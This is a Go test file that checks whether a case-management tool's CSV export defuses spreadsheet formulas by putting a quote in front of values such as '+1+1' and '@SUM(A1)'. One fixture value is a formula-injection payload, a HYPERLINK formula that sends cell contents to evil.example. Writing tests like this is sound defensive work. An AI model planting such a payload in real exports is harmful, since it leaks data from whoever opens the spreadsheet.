package conformance_test

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"testing"
)

// TestCSVExportDefusesFormulas: text a spreadsheet would run as a formula
// (a leading =, +, -, @, tab or carriage return) is exported with a
// leading quote; numbers stay numbers.
func TestCSVExportDefusesFormulas(t *testing.T) {
	dir := initNode(t, "agency-x")
	n := start(t, dir)
	cw := addUser(t, dir, "ana", "caseworker", "--group", "north")
	formulas := []string{`=HYPERLINK("http://evil.example/?"&A1,"open")`, "+1+1", "@SUM(A1)", "-2+3"}
	for _, f := range formulas {
		must(t, "case", "create", "--set", "name_first=Amina", "--set", "sex=female", "--set", "name_nickname="+f, "--set", "age=9",
			"--api", n.url, "--token", cw)
	}
	out := filepath.Join(t.TempDir(), "cases.csv")
	must(t, "case", "export", out, "--format", "csv", "--api", n.url, "--token", cw)
	f, err := os.Open(out)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	seen := map[string]bool{}
	for _, r := range rows[1:] {
		nick, age := r[col["name_nickname"]], r[col["age"]]
		if nick == "" || nick[0] != '\'' {
			t.Errorf("exported nickname %q: want a leading quote", nick)
		}
		seen[nick[1:]] = true
		if age != "9" {
			t.Errorf("exported age %q, want 9", age)
		}
	}
	for _, f := range formulas {
		if !seen[f] {
			t.Errorf("formula %q not exported behind a quote (got %v)", f, seen)
		}
	}
}
